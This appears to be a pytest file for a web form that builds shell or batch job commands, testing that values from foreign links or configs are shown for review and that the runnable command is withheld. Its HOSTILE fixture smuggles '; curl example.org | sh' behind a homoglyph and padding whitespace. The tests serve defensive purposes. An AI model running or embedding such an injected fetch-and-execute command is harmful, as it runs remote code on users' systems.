"""A link or a config from somebody: what it would do is shown first, and the command only to those who have read it."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import urlencode

import pytest
from page_client import CLIENT, GOOD

from app import create_app
from app.environment import Settings
from worker.spec.formats import link, token

HOSTILE = {
    **GOOD,
    "objective_program": "python3 trаin.py ($lr)" + " " * 40 + "; curl example.org | sh",
    "workdir": "/scratch/ws",
    "setup_lines": "module load x\nsource /tmp/y",
    "on_end": "mail me",
    "sbatch_lines": "--comment=z",
}
BANNER = 'id="foreign"'


def test_a_link_shows_what_it_would_do_and_keeps_its_command_back() -> None:
    page = CLIENT.get("/?" + urlencode(HOSTILE)).text
    assert BANNER in page
    banner = page[page.index(BANNER) : page.index('<form id="form"')]
    for words in (
        "U+0430, looks like a",
        "40 blanks",
        "; curl example.org | sh",
        "/scratch/ws",
        "romeo",
        "mail me",
    ):
        assert words in banner
    assert "module load x\nsource /tmp/y" in banner
    assert "--comment=z" in banner
    assert "sh -c" not in page
    assert "install.sh" not in page


def test_an_old_link_still_opens_and_fills_in_the_form() -> None:
    page = CLIENT.get("/?projectname=old&param_0_name=x&param_0_value_max=5").text
    assert BANNER in page
    assert 'value="old"' in page


def test_an_empty_form_is_nobodys() -> None:
    assert BANNER not in CLIENT.get("/").text


def test_the_button_shows_the_command_without_a_script() -> None:
    page = CLIENT.post("/", data={**GOOD, "foreign": "1", "action": "read"}).text
    assert BANNER not in page
    assert "sh -c" in page
    assert 'name="foreign"' not in page


@pytest.mark.parametrize("action", ["update", "add", "remove-0"])
def test_other_buttons_do_not(action: str) -> None:
    page = CLIENT.post("/", data={**GOOD, "foreign": "1", "action": action}).text
    assert BANNER in page
    assert "sh -c" not in page


def test_a_form_that_was_typed_here_has_its_command() -> None:
    page = CLIENT.post("/", data={**GOOD, "action": "update"}).text
    assert BANNER not in page
    assert "sh -c" in page


def test_a_config_that_is_opened_counts_as_somebodys() -> None:
    config = CLIENT.post("/preview", data=GOOD).get_json()["config"]
    page = CLIENT.post("/import", data={"config": config}, headers={"Accept": "text/html"}).text
    assert BANNER in page
    assert "sh -c" not in page
    refused = CLIENT.post("/import", data={**GOOD, "config": "="}, headers={"Accept": "text/html"}).text
    assert BANNER not in refused
    still = CLIENT.post(
        "/import", data={**GOOD, "config": "=", "foreign": "1"}, headers={"Accept": "text/html"}
    ).text
    assert BANNER in still


def test_the_preview_for_such_a_form_has_what_it_would_do_in_place_of_commands() -> None:
    kept = CLIENT.post("/preview", data={**HOSTILE, "foreign": "1"}).get_json()
    given = CLIENT.post("/preview", data=HOSTILE).get_json()
    assert "review" not in given
    assert {key for key, text in kept.items() if key.startswith("command") and text} == set()
    assert kept["review"][0]["label"] == "Objective program"
    assert ["а", "U+0430, looks like a"] in kept["review"][0]["parts"]
    assert {
        **given,
        **{key: kept[key] for key in kept if key.startswith("command") or key == "review"},
    } == kept


def test_the_same_values_have_the_same_fingerprint_however_they_come() -> None:
    given = CLIENT.post("/preview", data=GOOD).get_json()
    assert f'data-fingerprint="{given["fingerprint"]}"' in CLIENT.get("/?" + urlencode(GOOD)).text
    word = token.pack(given["config"])
    opened = CLIENT.post("/import", data={"config": word}, headers={"Accept": "text/html"}).text
    assert f'data-fingerprint="{given["fingerprint"]}"' in opened
    assert (
        CLIENT.post("/preview", data={**GOOD, "workdir": "/x"}).get_json()["fingerprint"]
        != given["fingerprint"]
    )
    assert link.token_of(f"#c={word}") == word


def test_a_preset_is_the_sites_and_with_more_it_is_not(tmp_path: Path) -> None:
    file = tmp_path / "site.toml"
    file.write_text('[presets."a b"]\nlabel = "On a GPU"\nrun = {workdir = "/site"}\n')
    client = create_app(Settings(site=file)).test_client()
    assert 'href="/?preset=a+b">On a GPU' in client.get("/").text
    page = client.get("/?preset=a+b").text
    assert 'value="/site"' in page
    assert BANNER not in page
    mixed = client.get("/?preset=a+b&objective_program=evil").text
    assert BANNER in mixed
    assert 'value="/site"' not in mixed


def test_strange_characters_are_shown_wherever_they_are() -> None:
    form = {**GOOD, "param_0_value_max": "1\u200b", "target": "５"}
    facts = CLIENT.post("/preview", data={**form, "foreign": "1"}).get_json()["review"]
    told = {fact["label"]: json.dumps(fact["parts"]) for fact in facts}
    assert "U+200B" in told["Parameter 1, value_max"]
    assert "looks like 5" in told["Target"]


def test_many_strange_texts_stay_a_small_answer() -> None:
    form = {**GOOD, "number_of_parameters": "100", "objective_program": "aé" * 4000}
    form |= {f"param_{number}_name": "é" for number in range(100)}
    facts = CLIENT.post("/preview", data={**form, "foreign": "1"}).get_json()["review"]
    assert len(json.dumps(facts)) < 60_000
    assert facts[-1]["parts"] == [["", "70 more texts like these"]]
